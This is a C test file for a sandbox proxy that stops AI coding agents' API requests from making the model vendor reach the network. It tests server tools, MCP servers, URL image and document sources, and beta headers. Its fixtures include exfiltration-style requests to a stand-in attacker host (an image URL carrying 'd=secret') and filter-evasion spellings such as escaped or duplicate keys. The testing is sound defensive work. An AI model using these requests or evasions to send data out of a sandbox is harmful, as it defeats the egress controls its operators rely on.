/* SPDX-License-Identifier: MIT */
/* The security battery's case for the model API as a way out: below open
 * egress, the vendor proxy must not let a request make the vendor reach the
 * network (server-side tools, MCP connectors, URL sources, betas that
 * enable them), however it is spelled. Real proxies (netpolicy/vendor*.c) on
 * loopback, at egress none and at open, in front of the vendor fixture
 * (tests/fixtures/vendor/server.mjs), whose --dump-dir keeps every body that
 * reaches it and whose --log keeps the anthropic-beta it got; and, for the
 * bytes themselves (duplicate keys), an in-test upstream that keeps the raw
 * request. Below open: each network-reaching member is refused with a 400 in
 * the vendor's error shape and nothing reaches the fixture, or stripped and
 * the rest goes through; ordinary client tools and streaming still work. At
 * open: all of it passes unchanged. */
#include "config.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "netpolicy/vendor.h"
#include "src/basic/timeutil.h"
#include "tests/tap.h"
#include "tests/vendor-loopback.h"

#define REAL_KEY "sk-REAL-fixture-key-0123456789"

/* gzip of "{}" */
static const char gz[] = "\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff\xab\xae\x05\x00\x43\xbf\xa6\xa3"
                         "\x02\x00\x00\x00";

static char dir[] = "/tmp/dm-sec-vfilter-XXXXXX";
static char dump_dir[128], fixture_log[160], token[65];

/* --- the vendor fixture ----------------------------------------------------- */

static pid_t fixture_start(uint16_t *ret_port)
{
        char script[512], line[128] = "";
        int out[2];
        pid_t pid;
        size_t len = 0;
        int64_t end = dm_now_ms() + 30000;

        snprintf(script, sizeof(script), "%s/tests/fixtures/vendor/server.mjs", DM_SRCDIR);
        if (pipe2(out, O_CLOEXEC) < 0)
                return -1;
        pid = fork();
        if (pid == 0) {
                dup2(out[1], STDOUT_FILENO);
                execlp("node", "node", script, "--expect-key", REAL_KEY, "--port", "0", "--host", "127.0.0.1", "--log",
                       fixture_log, "--dump-dir", dump_dir, (char *)NULL);
                _exit(127);
        }
        close(out[1]);
        while (pid > 0 && dm_now_ms() < end && !strchr(line, '\n') && len < sizeof(line) - 1) {
                struct pollfd p = { .fd = out[0], .events = POLLIN };
                ssize_t n;

                if (poll(&p, 1, 200) <= 0)
                        continue;
                if ((n = read(out[0], line + len, sizeof(line) - 1 - len)) <= 0)
                        break;
                len += (size_t)n;
                line[len] = '\0';
        }
        close(out[0]);
        if (strncmp(line, "listening ", 10) != 0) {
                diag("the vendor fixture did not start (node on PATH? said '%s')", line);
                if (pid > 0) {
                        kill(pid, SIGTERM);
                        waitpid(pid, NULL, 0);
                }
                return -1;
        }
        *ret_port = (uint16_t)atoi(line + 10);
        return pid;
}

/* The newest body the fixture kept (names are numbered), into buf. */
static void last_dump(char *buf, size_t max)
{
        DIR *d = opendir(dump_dir);
        struct dirent *e;
        char best[256] = "", path[512];
        FILE *f;
        size_t n = 0;

        buf[0] = '\0';
        while (d && (e = readdir(d)))
                if (e->d_name[0] != '.' && strcmp(e->d_name, best) > 0)
                        snprintf(best, sizeof(best), "%s", e->d_name);
        if (d)
                closedir(d);
        snprintf(path, sizeof(path), "%s/%s", dump_dir, best);
        if (best[0] && (f = fopen(path, "re"))) {
                n = fread(buf, 1, max - 1, f);
                fclose(f);
        }
        buf[n] = '\0';
}

/* The fixture logs a request when its response closes, a moment after the
 * client has it: waits for the log to hold want lines, then the last one. */
static void last_log(int want, char *buf, size_t max)
{
        int64_t end = dm_now_ms() + 10000;

        buf[0] = '\0';
        for (;;) {
                FILE *f = fopen(fixture_log, "re");
                int lines = 0;

                while (f && fgets(buf, (int)max, f))
                        lines++;
                if (f)
                        fclose(f);
                if (lines >= want || dm_now_ms() > end)
                        return;
                usleep(50 * 1000);
        }
}

/* --- a raw upstream: keeps the bytes of one request ------------------------- */

static int raw_fd;
static char raw_req[65536];
static atomic_int raw_stop, raw_count;
static pthread_mutex_t raw_lock = PTHREAD_MUTEX_INITIALIZER;

static void *raw_main(void *arg)
{
        static const char answer[] = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                                     "Content-Length: 11\r\nConnection: close\r\n\r\n{\"ok\":true}";
        (void)arg;
        while (!raw_stop) {
                struct pollfd p = { .fd = raw_fd, .events = POLLIN };
                char buf[65536];
                size_t len = 0;
                int fd;

                if (poll(&p, 1, 50) <= 0 || (fd = accept4(raw_fd, NULL, NULL, SOCK_CLOEXEC)) < 0)
                        continue;
                for (int64_t end = dm_now_ms() + 5000; len < sizeof(buf) - 1 && dm_now_ms() < end;) {
                        struct pollfd q = { .fd = fd, .events = POLLIN };
                        const char *h, *cl;
                        ssize_t n;

                        if (poll(&q, 1, 100) <= 0)
                                continue;
                        if ((n = read(fd, buf + len, sizeof(buf) - 1 - len)) <= 0)
                                break;
                        len += (size_t)n;
                        buf[len] = '\0';
                        if ((h = strstr(buf, "\r\n\r\n")) && (cl = strcasestr(buf, "\ncontent-length:")) &&
                            len >= (size_t)(h + 4 - buf) + strtoul(cl + 16, NULL, 10))
                                break;
                }
                pthread_mutex_lock(&raw_lock);
                memcpy(raw_req, buf, len + 1);
                pthread_mutex_unlock(&raw_lock);
                raw_count++;
                if (write(fd, answer, sizeof(answer) - 1) < 0)
                        diag("raw upstream: write: %s", strerror(errno));
                close(fd);
        }
        return NULL;
}

/* --- proxies and the client ------------------------------------------------- */

static struct dm_vendor_proxy *proxy(enum dm_vendor v, const char *upstream, bool open, const char *logp,
                                     uint16_t *ret_port)
{
        struct dm_vendor_conf conf = {
                .provider = v,
                .bind = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) },
                .upstream = upstream,
                .token = token,
                .cred = { .auth = DM_VENDOR_AUTH_API_KEY, .secret = (char *)REAL_KEY },
                .log_path = logp,
                .vendor_network = open,
        };

        return test_vendor_start(&conf, ret_port);
}

/* One POST on its own connection: extra header lines, then body (len bytes;
 * chunked in two pieces when chunked). The status; the response in buf. */
static int post(uint16_t port, enum dm_vendor v, const char *path, const char *extra, const char *body, size_t len,
                bool chunked, char *buf, size_t max)
{
        int fd = test_dial(port);
        char head[4096];
        size_t half = len / 2;
        int n;

        buf[0] = '\0';
        if (fd < 0)
                return 0;
        n = snprintf(head, sizeof(head),
                     "POST %s HTTP/1.1\r\nHost: proxy\r\n%s%s\r\n%sContent-Type: application/json\r\n", path,
                     v == DM_VENDOR_ANTHROPIC ? "x-api-key: " : "Authorization: Bearer ", token, extra ? extra : "");
        if (chunked)
                n += snprintf(head + n, sizeof(head) - (size_t)n,
                              "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n%zx\r\n", half);
        else
                n += snprintf(head + n, sizeof(head) - (size_t)n, "Content-Length: %zu\r\nConnection: close\r\n\r\n",
                              len);
        if (write(fd, head, (size_t)n) != n)
                diag("client: short write");
        if (chunked) {
                char mid[32];
                int m = snprintf(mid, sizeof(mid), "\r\n%zx\r\n", len - half);

                if (write(fd, body, half) != (ssize_t)half || write(fd, mid, (size_t)m) != m ||
                    write(fd, body + half, len - half) != (ssize_t)(len - half) || write(fd, "\r\n0\r\n\r\n", 7) != 7)
                        diag("client: short write");
        } else {
                for (size_t off = 0; off < len;) {
                        ssize_t w = write(fd, body + off, len - off);
                        if (w <= 0)
                                break; /* refused early: the answer is still there to read */
                        off += (size_t)w;
                }
        }
        test_read_until(fd, buf, max, NULL, 120000); /* a loaded machine: only a hang fails */
        close(fd);
        return strncmp(buf, "HTTP/1.1 ", 9) == 0 ? atoi(buf + 9) : 0;
}

static int send_json(uint16_t port, enum dm_vendor v, const char *extra, const char *body, char *buf, size_t max)
{
        return post(port, v, v == DM_VENDOR_ANTHROPIC ? "/v1/messages?beta=true" : "/v1/responses", extra, body,
                    strlen(body), false, buf, max);
}

/* The request is refused in the vendor's error shape and reaches nothing. */
static void refused(uint16_t port, enum dm_vendor v, const char *what, const char *body, const char *says)
{
        static char buf[65536];
        int before = test_count_dir(dump_dir), status = send_json(port, v, NULL, body, buf, sizeof(buf));
        const char *shape = v == DM_VENDOR_ANTHROPIC
                                    ? "{\"type\":\"error\",\"error\":{\"type\":\"invalid_request_error\""
                                    : "\"type\":\"invalid_request_error\"";

        ok(status == 400 && strstr(buf, shape) && strstr(buf, says) && test_count_dir(dump_dir) == before,
           "%s: %s: refused, 400 in the vendor's shape saying '%s', nothing reached the fixture", dm_vendor_name(v),
           what, says);
        if (status != 400 || !strstr(buf, says))
                diag("got %d: %.300s", status, strstr(buf, "\r\n\r\n") ? strstr(buf, "\r\n\r\n") + 4 : buf);
}

/* The request reaches the fixture, answered 200; its body is in dump. */
static bool forwarded(uint16_t port, enum dm_vendor v, const char *extra, const char *body, char *dump, size_t max)
{
        static char buf[65536];
        int before = test_count_dir(dump_dir), status = send_json(port, v, extra, body, buf, sizeof(buf));

        last_dump(dump, max);
        if (status != 200 || test_count_dir(dump_dir) != before + 1) {
                diag("got %d: %.300s", status, buf);
                return false;
        }
        return true;
}

#define A_TOOLS_CLIENT                                                                                       \
        "[{\"name\":\"Bash\",\"description\":\"run\",\"input_schema\":{\"type\":\"object\",\"properties\":{" \
        "\"command\":{\"type\":\"string\"}}}},{\"name\":\"Write\",\"input_schema\":{\"type\":\"object\"}},"  \
        "{\"type\":\"custom\",\"name\":\"Mine\",\"input_schema\":{\"type\":\"object\"}},"                    \
        "{\"type\":\"bash_20250124\",\"name\":\"bash\"},{\"type\":\"text_editor_20250728\",\"name\":"        \
        "\"str_replace_based_edit_tool\"},{\"type\":\"memory_20250818\",\"name\":\"memory\"}]"
#define CLAUDE_CODE_BETAS                                                                                       \
        "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,effort-2025-11-24," \
        "per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13," \
        "thinking-display-updates-2026-08-18"
#define A_MSG "\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]"

struct refusal {
        const char *what, *body, *says;
};

static const struct refusal anthropic_refusals[] = {
        { "mcp_servers",
          "{\"model\":\"m\",\"max_tokens\":10," A_MSG
          ",\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://attacker.example/mcp\",\"name\":\"x\"}]}",
          "mcp_servers" },
        { "container",
          "{\"model\":\"m\",\"max_tokens\":10," A_MSG ",\"container\":{\"skills\":[{\"type\":\"anthropic\","
          "\"skill_id\":\"pptx\"}]}}",
          "container" },
        { "mcp_servers in capitals",
          "{\"model\":\"m\"," A_MSG ",\"MCP_SERVERS\":[{\"url\":\"https://attacker.example\"}]}", "MCP_SERVERS" },
        { "mcp_servers spelled with an escape",
          "{\"model\":\"m\"," A_MSG ",\"mcp\\u005fservers\":[{\"url\":\"https://attacker.example\"}]}", "mcp_servers" },
        { "mcp_servers after an empty one (duplicate key)",
          "{\"model\":\"m\"," A_MSG ",\"mcp_servers\":[],\"mcp_servers\":[{\"url\":\"https://a.example\"}]}",
          "mcp_servers" },
        { "a server tool after empty tools (duplicate key)",
          "{\"model\":\"m\"," A_MSG ",\"tools\":[],\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\"}]}",
          "web_fetch_20250910" },
        { "an image with a URL source",
          "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image\",\"source\":{"
          "\"type\":\"url\",\"url\":\"https://attacker.example/?d=secret\"}}]}]}",
          "URL source" },
        { "a document URL source nested in a tool result",
          "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"tool_result\","
          "\"tool_use_id\":\"t\",\"content\":[{\"type\":\"document\",\"source\":{\"type\":\"url\",\"url\":"
          "\"https://attacker.example/x.pdf\"}}]}]}]}",
          "URL source" },
        { "a body that is not JSON", "model=m&tools=web_search", "not one JSON" },
        { "a JSON array", "[{\"tools\":[]}]", "not one JSON" },
        { "a second document after the first", "{\"model\":\"m\"} {\"tools\":[{\"type\":\"web_search_20250305\"}]}",
          "not one JSON" },
        { "an empty body", "", "is empty" },
};

/* Betas: the safe ones go on, the others are taken out. */
static void anthropic_betas(uint16_t port)
{
        char body[512], dump[65536], buf[65536];
        int lines;

        snprintf(body, sizeof(body), "{\"model\":\"m\",\"max_tokens\":10,%s}", A_MSG);
        ok(forwarded(port, DM_VENDOR_ANTHROPIC,
                     "anthropic-beta: prompt-caching-2024-07-31, mcp-client-2025-04-04,web-fetch-2025-09-10,"
                     "files-api-2025-04-14,code-execution-2025-08-25,interleaved-thinking-2025-05-14,"
                     "Claude-Code-20250219,made-up-2030-01-01\r\n",
                     body, dump, sizeof(dump)),
           "anthropic at none: a request with unsafe betas is forwarded");
        lines = test_count_dir(dump_dir);
        last_log(lines, buf, sizeof(buf));
        ok(NULL != strstr(buf, "\"anthropic-beta\":\"prompt-caching-2024-07-31,interleaved-thinking-2025-05-14\""),
           "with only the safe betas (%.200s)", strstr(buf, "anthropic-beta") ? strstr(buf, "anthropic-beta") : "-");
        ok(forwarded(port, DM_VENDOR_ANTHROPIC,
                     "anthropic-beta: files-api-2025-04-14\r\nanthropic-beta: prompt-caching-2024-07-31\r\n", body,
                     dump, sizeof(dump)),
           "anthropic at none: an unsafe beta alone, and a second header, are forwarded");
        last_log(lines + 1, buf, sizeof(buf));
        ok(!strstr(buf, "anthropic-beta") && !strstr(buf, "files-api"), "with no anthropic-beta at all");
}

/* Many bodies just under the caps at once: each is parsed (two at a time
 * in the server) and answered; the proxy still serves afterwards. */
#define AT_ONCE 16

struct big {
        uint16_t port;
        const char *body;
        int status;
};

static void *send_big(void *arg)
{
        struct big *b = arg;
        char *buf = malloc(65536);

        int64_t t0 = dm_now_ms();
        b->status = buf ? post(b->port, DM_VENDOR_ANTHROPIC, "/v1/messages", NULL, b->body, strlen(b->body), false, buf,
                               65536)
                        : 0;
        if (b->status != 200)
                diag("took %lld ms: %.200s", (long long)(dm_now_ms() - t0), buf ? buf : "");
        free(buf);
        return NULL;
}

static void anthropic_at_once(uint16_t port)
{
        size_t n = 0;
        char *body = malloc(1u << 20), buf[4096];
        struct big b[AT_ONCE];
        pthread_t t[AT_ONCE];
        int answered = 0, before = test_count_dir(dump_dir);

        n += (size_t)sprintf(body, "{\"model\":\"m\"," A_MSG ",\"metadata\":[");
        for (int i = 0; i < 99000; i++)
                n += (size_t)sprintf(body + n, "%s{}", i ? "," : "");
        sprintf(body + n, "]}");
        for (int i = 0; i < AT_ONCE; i++) {
                b[i] = (struct big){ .port = port, .body = body };
                pthread_create(&t[i], NULL, send_big, &b[i]);
        }
        for (int i = 0; i < AT_ONCE; i++) {
                pthread_join(t[i], NULL);
                answered += b[i].status == 200;
                if (b[i].status != 200)
                        diag("request %d: %d", i, b[i].status);
        }
        is_int(answered, AT_ONCE, "anthropic at none: %d bodies of 99,000 objects at once: all read and forwarded",
               AT_ONCE);
        is_int(test_count_dir(dump_dir), before + AT_ONCE, "each reached the fixture once");
        is_int(send_json(port, DM_VENDOR_ANTHROPIC, NULL, "{\"model\":\"m\"," A_MSG "}", buf, sizeof(buf)), 200,
               "and the proxy serves the next request");
        free(body);
}

/* The body is read whatever its framing, size and shape. */
static void anthropic_bodies(uint16_t port)
{
        char body[4096], buf[65536];
        int before;

        before = test_count_dir(dump_dir);
        snprintf(body, sizeof(body),
                 "{\"model\":\"m\"," A_MSG ",\"tools\":[{\"name\":\"Bash\",\"input_schema\":{}},{\"type\":"
                 "\"web_search_20250305\",\"name\":\"web_search\"}]}");
        is_int(post(port, DM_VENDOR_ANTHROPIC, "/v1/messages", NULL, body, strlen(body), true, buf, sizeof(buf)), 400,
               "anthropic at none: a server tool in a chunked body: 400");
        is_int(test_count_dir(dump_dir), before, "and it did not reach the fixture");
        {
                is_int(post(port, DM_VENDOR_ANTHROPIC, "/v1/messages", "Content-Encoding: gzip\r\n", gz, sizeof(gz) - 1,
                            false, buf, sizeof(buf)),
                       415, "anthropic at none: a gzip body: 415");
                ok(strstr(buf, "content-encoding 'gzip'") && test_count_dir(dump_dir) == before,
                   "saying why, and nothing reached the fixture");
        }
        /* A large body is read to its end: the server tool after 8 MiB of
         * text is found. Past the cap, 413. */
        {
                size_t big = 8u << 20, n;
                char *huge = malloc(big + 512);

                n = (size_t)sprintf(huge, "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"");
                memset(huge + n, 'a', big);
                n += big;
                n += (size_t)sprintf(huge + n, "\"}],\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\"}]}");
                is_int(post(port, DM_VENDOR_ANTHROPIC, "/v1/messages", NULL, huge, n, false, buf, sizeof(buf)), 400,
                       "anthropic at none: a server tool after 8 MiB of text: 400");
                ok(strstr(buf, "web_fetch_20250910") && test_count_dir(dump_dir) == before,
                   "named, and nothing reached the fixture");
                free(huge);
                huge = calloc(1, (32u << 20) + 16);
                memset(huge, ' ', (32u << 20) + 8);
                is_int(post(port, DM_VENDOR_ANTHROPIC, "/v1/messages", NULL, huge, (32u << 20) + 8, false, buf,
                            sizeof(buf)),
                       413, "anthropic at none: a body past the 32 MiB cap: 413");
                free(huge);
        }
}

static void anthropic_none(uint16_t port)
{
        static const char *const server_tools[] = { "web_fetch_20250910",      "web_search_20250305",
                                                    "code_execution_20250825", "mcp_toolset",
                                                    "url_context_20260101",    "Web_Search_20250305",
                                                    "WEB_FETCH_20250910",      "computer" };
        char body[8192], dump[65536], buf[65536];
        int before;

        /* Control: Claude Code's kind of request (client tools, streaming). */
        before = test_count_dir(dump_dir);
        snprintf(body, sizeof(body),
                 "{\"model\":\"claude-sonnet-5-5\",\"max_tokens\":100,\"stream\":true,%s,\"tools\":%s}", A_MSG,
                 A_TOOLS_CLIENT);
        is_int(send_json(port, DM_VENDOR_ANTHROPIC, "anthropic-version: 2023-06-01\r\n", body, buf, sizeof(buf)), 200,
               "anthropic at none: client tools and streaming: 200");
        ok(strstr(buf, "text/event-stream") && strstr(buf, "message_stop"), "and the event stream arrives whole");
        last_dump(dump, sizeof(dump));
        ok(test_count_dir(dump_dir) == before + 1 && strstr(dump, "\"Bash\"") && strstr(dump, "bash_20250124") &&
                   strstr(dump, "\"Mine\"") && strstr(dump, "memory_20250818"),
           "the fixture got every client tool");
        /* The betas the claude-code image's Claude Code (2.1.332) sends, as
         * the fixture logged them in tests/e2e/client-agents.mjs: all safe. */
        snprintf(body, sizeof(body), "{\"model\":\"m\",\"max_tokens\":10,%s}", A_MSG);
        ok(forwarded(port, DM_VENDOR_ANTHROPIC, "anthropic-beta: " CLAUDE_CODE_BETAS "\r\n", body, dump, sizeof(dump)),
           "anthropic at none: Claude Code's betas: forwarded");
        last_log(test_count_dir(dump_dir), buf, sizeof(buf));
        ok(NULL != strstr(buf, "\"anthropic-beta\":\"" CLAUDE_CODE_BETAS "\""), "every one of them");

        for (size_t i = 0; i < sizeof(server_tools) / sizeof(server_tools[0]); i++) {
                char what[96];

                snprintf(body, sizeof(body),
                         "{\"model\":\"m\",\"max_tokens\":10,%s,\"tools\":[{\"name\":\"Bash\",\"input_schema\":{}},"
                         "{\"type\":\"%s\",\"name\":\"t\"}]}",
                         A_MSG, server_tools[i]);
                snprintf(what, sizeof(what), "a %s tool", server_tools[i]);
                refused(port, DM_VENDOR_ANTHROPIC, what, body, server_tools[i]);
        }
        for (size_t i = 0; i < sizeof(anthropic_refusals) / sizeof(anthropic_refusals[0]); i++)
                refused(port, DM_VENDOR_ANTHROPIC, anthropic_refusals[i].what, anthropic_refusals[i].body,
                        anthropic_refusals[i].says);
        {
                char deep[1200];
                size_t n = 0;

                n += (size_t)snprintf(deep, sizeof(deep), "{\"model\":\"m\",\"messages\":");
                for (int i = 0; i < 300; i++)
                        deep[n++] = '[';
                for (int i = 0; i < 300; i++)
                        deep[n++] = ']';
                snprintf(deep + n, sizeof(deep) - n, "}");
                refused(port, DM_VENDOR_ANTHROPIC, "300 levels of nesting", deep, "not one JSON");
        }
        /* Bodies json-c would need gigabytes for: refused before parsing. */
        {
                size_t n = 0, max = 4u << 20;
                char *many = malloc(max);

                n += (size_t)sprintf(many, "{\"model\":\"m\",\"metadata\":[");
                for (int i = 0; i < 150000; i++)
                        n += (size_t)sprintf(many + n, "%s{}", i ? "," : "");
                sprintf(many + n, "]}");
                refused(port, DM_VENDOR_ANTHROPIC, "150,000 empty objects", many, "more than 100000 objects");
                n = (size_t)sprintf(many, "{\"model\":\"m\",\"metadata\":[");
                for (int i = 0; i < 1100000; i++)
                        n += (size_t)sprintf(many + n, "%s1", i ? "," : "");
                sprintf(many + n, "]}");
                refused(port, DM_VENDOR_ANTHROPIC, "1,100,000 numbers", many, "1000000 values");
                free(many);
        }

        anthropic_betas(port);
        anthropic_bodies(port);
        anthropic_at_once(port);
}

static void anthropic_open(uint16_t port)
{
        char body[4096], dump[65536], buf[65536];
        int before;

        snprintf(body, sizeof(body),
                 "{\"model\":\"m\",\"max_tokens\":10," A_MSG ",\"tools\":[{\"type\":\"web_search_20250305\",\"name\":"
                 "\"web_search\"},{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"},{\"type\":"
                 "\"code_execution_20250825\",\"name\":\"code_execution\"}],\"mcp_servers\":[{\"type\":\"url\","
                 "\"url\":\"https://mcp.example/sse\",\"name\":\"x\"}]}");
        ok(forwarded(port, DM_VENDOR_ANTHROPIC, "anthropic-beta: mcp-client-2025-04-04,web-fetch-2025-09-10\r\n", body,
                     dump, sizeof(dump)),
           "anthropic at open: server tools and mcp_servers are forwarded");
        ok(strstr(dump, "web_search_20250305") && strstr(dump, "web_fetch_20250910") &&
                   strstr(dump, "code_execution_20250825") && strstr(dump, "https://mcp.example/sse"),
           "unchanged");
        last_log(test_count_dir(dump_dir), buf, sizeof(buf));
        ok(NULL != strstr(buf, "\"anthropic-beta\":\"mcp-client-2025-04-04,web-fetch-2025-09-10\""), "betas and all");
        before = test_count_dir(dump_dir);
        is_int(post(port, DM_VENDOR_ANTHROPIC, "/v1/messages", "Content-Encoding: gzip\r\n", gz, sizeof(gz) - 1, false,
                    buf, sizeof(buf)),
               200, "anthropic at open: a gzip body goes through");
        is_int(test_count_dir(dump_dir), before + 1, "to the fixture");
}

#define O_INPUT "\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_text\",\"text\":\"hi\"}]}]"

static const struct refusal openai_refusals[] = {
        { "an mcp tool inside a namespace",
          "{\"model\":\"m\"," O_INPUT ",\"tools\":[{\"type\":\"namespace\",\"name\":\"n\",\"tools\":[{\"type\":"
          "\"mcp\",\"server_url\":\"https://attacker.example\"}]}]}",
          "'mcp'" },
        { "a shell in a hosted container",
          "{\"model\":\"m\"," O_INPUT ",\"tools\":[{\"type\":\"shell\",\"environment\":{\"type\":"
          "\"container_auto\"}}]}",
          "hosted environment" },
        { "a stored prompt", "{\"model\":\"m\"," O_INPUT ",\"prompt\":{\"id\":\"pmpt_1\"}}", "stored prompt" },
        { "an image by URL",
          "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_image\",\"image_url\":"
          "\"https://attacker.example/?d=secret\"}]}]}",
          "image_url" },
        { "a file by URL",
          "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_file\",\"file_url\":"
          "\"https://attacker.example/a.pdf\"}]}]}",
          "file_url" },
        { "an mcp tool after empty tools (duplicate key)",
          "{\"model\":\"m\"," O_INPUT ",\"tools\":[],\"tools\":[{\"type\":\"mcp\",\"server_url\":\"https://a\"}]}",
          "'mcp'" },
};

static void openai_none(uint16_t port, const char *logp)
{
        static const char *const hosted[] = { "mcp", "code_interpreter", "file_search", "Web_Search", "local_shell_x" };
        char body[8192], dump[65536], buf[65536];

        /* Control: Codex's kind of request; its web_search is taken out. */
        snprintf(body, sizeof(body),
                 "{\"model\":\"gpt-5.5\",\"stream\":true,\"store\":false," O_INPUT
                 ",\"tools\":[{\"type\":\"function\",\"name\":\"exec_command\",\"parameters\":{\"type\":\"object\","
                 "\"properties\":{\"cmd\":{\"type\":\"string\"}}}},{\"type\":\"custom\",\"name\":\"apply_patch\"},"
                 "{\"type\":\"web_search\",\"external_web_access\":false},{\"type\":\"namespace\",\"name\":"
                 "\"mcp__demesne\",\"tools\":[{\"type\":\"function\",\"name\":\"sandbox_create\"}]},{\"type\":"
                 "\"web_search_preview\"}],\"tool_choice\":\"auto\"}");
        is_int(send_json(port, DM_VENDOR_OPENAI, NULL, body, buf, sizeof(buf)), 200,
               "openai at none: Codex's tools and streaming: 200");
        ok(strstr(buf, "text/event-stream") && strstr(buf, "response.completed"), "and the event stream arrives whole");
        last_dump(dump, sizeof(dump));
        ok(strstr(dump, "exec_command") && strstr(dump, "apply_patch") && strstr(dump, "sandbox_create") &&
                   !strstr(dump, "web_search"),
           "the fixture got the client tools and no web_search");

        for (size_t i = 0; i < sizeof(hosted) / sizeof(hosted[0]); i++) {
                char what[64];

                snprintf(body, sizeof(body),
                         "{\"model\":\"m\"," O_INPUT
                         ",\"tools\":[{\"type\":\"%s\",\"server_label\":\"x\",\"server_url\":"
                         "\"https://attacker.example/mcp\"}]}",
                         hosted[i]);
                snprintf(what, sizeof(what), "a %s tool", hosted[i]);
                refused(port, DM_VENDOR_OPENAI, what, body, hosted[i]);
        }
        for (size_t i = 0; i < sizeof(openai_refusals) / sizeof(openai_refusals[0]); i++)
                refused(port, DM_VENDOR_OPENAI, openai_refusals[i].what, openai_refusals[i].body,
                        openai_refusals[i].says);
        ok(forwarded(port, DM_VENDOR_OPENAI, NULL,
                     "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":\"input_image\","
                     "\"image_url\":\"data:image/png;base64,iVBORw0KGgo=\"}]}],\"tools\":[{\"type\":"
                     "\"web_search_preview\"}],\"tool_choice\":{\"type\":\"web_search_preview\"},"
                     "\"web_search_options\":{}}",
                     dump, sizeof(dump)),
           "openai at none: an inline image with web_search chosen is forwarded");
        ok(strstr(dump, "data:image/png") && !strstr(dump, "web_search") && !strstr(dump, "tool_choice"),
           "without the web search, its tool_choice and web_search_options");
        {
                FILE *f = fopen(logp, "re");
                char line[1024];
                bool noted = false;

                while (f && fgets(line, sizeof(line), f))
                        noted = noted || (strstr(line, "200 forwarded") && strstr(line, "stripped web_search"));
                if (f)
                        fclose(f);
                ok(noted, "the proxy's log says what it stripped");
        }
}

static void openai_open(uint16_t port)
{
        char dump[65536];

        ok(forwarded(port, DM_VENDOR_OPENAI, NULL,
                     "{\"model\":\"m\"," O_INPUT ",\"tools\":[{\"type\":\"mcp\",\"server_label\":\"x\",\"server_url\":"
                     "\"https://mcp.example\"},{\"type\":\"web_search\"},{\"type\":\"code_interpreter\"}]}",
                     dump, sizeof(dump)),
           "openai at open: mcp, web_search and code_interpreter are forwarded");
        ok(strstr(dump, "https://mcp.example") && strstr(dump, "\"web_search\"") && strstr(dump, "code_interpreter"),
           "unchanged");
}

/* Duplicate keys: what goes upstream is one reading of the document. */
static void raw_bytes(void)
{
        char upstream[64], buf[65536], req[65536];
        struct dm_vendor_proxy *p;
        pthread_t t;
        uint16_t up_port, port;

        raw_fd = test_listen_loopback(&up_port);
        snprintf(upstream, sizeof(upstream), "http://127.0.0.1:%u", up_port);
        pthread_create(&t, NULL, raw_main, NULL);
        p = proxy(DM_VENDOR_ANTHROPIC, upstream, false, NULL, &port);
        is_int(send_json(port, DM_VENDOR_ANTHROPIC, NULL,
                         "{\"model\":\"m\",  \"tools\":[{\"type\":\"web_search_20250305\",\"name\":\"w\"}],"
                         "\"tools\":[],\n\"x\":\"\\u0041\"}",
                         buf, sizeof(buf)),
               200, "anthropic at none: a server tool hidden under a later empty 'tools': forwarded");
        pthread_mutex_lock(&raw_lock);
        memcpy(req, raw_req, sizeof(req));
        pthread_mutex_unlock(&raw_lock);
        ok(strstr(req, "\r\n\r\n{\"model\":\"m\",\"tools\":[],\"x\":\"A\"}") && !strstr(req, "web_search"),
           "as the one document the proxy read: no second 'tools' for the vendor to take (%.80s)",
           strstr(req, "\r\n\r\n") ? strstr(req, "\r\n\r\n") + 4 : req);
        dm_vendor_stop(p);
        raw_stop = 1;
        pthread_join(t, NULL);
        close(raw_fd);
}

int main(void)
{
        char upstream[64], logp[192];
        struct dm_vendor_proxy *none, *open;
        uint16_t fport = 0, port_none, port_open;
        pid_t fixture;
        int status = 0;

        if (!mkdtemp(dir) || dm_vendor_token_new(token) < 0)
                return 1;
        snprintf(dump_dir, sizeof(dump_dir), "%s/dump", dir);
        snprintf(fixture_log, sizeof(fixture_log), "%s/fixture.log", dir);
        snprintf(logp, sizeof(logp), "%s/vendor.log", dir);
        fixture = fixture_start(&fport);
        if (!ok(fixture > 0, "the vendor fixture starts"))
                return done_testing();
        snprintf(upstream, sizeof(upstream), "http://127.0.0.1:%u", fport);

        none = proxy(DM_VENDOR_ANTHROPIC, upstream, false, NULL, &port_none);
        open = proxy(DM_VENDOR_ANTHROPIC, upstream, true, NULL, &port_open);
        anthropic_none(port_none);
        anthropic_open(port_open);
        dm_vendor_stop(none);
        dm_vendor_stop(open);

        none = proxy(DM_VENDOR_OPENAI, upstream, false, logp, &port_none);
        open = proxy(DM_VENDOR_OPENAI, upstream, true, NULL, &port_open);
        openai_none(port_none, logp);
        openai_open(port_open);
        dm_vendor_stop(none);
        dm_vendor_stop(open);

        raw_bytes();

        kill(fixture, SIGTERM);
        ok(waitpid(fixture, &status, 0) == fixture && WIFEXITED(status) && WEXITSTATUS(status) == 0,
           "the fixture exits cleanly");
        {
                char cmd[256];

                snprintf(cmd, sizeof(cmd), "rm -rf -- '%s'", dir);
                if (system(cmd) != 0)
                        diag("cannot remove %s", dir);
        }
        return done_testing();
}
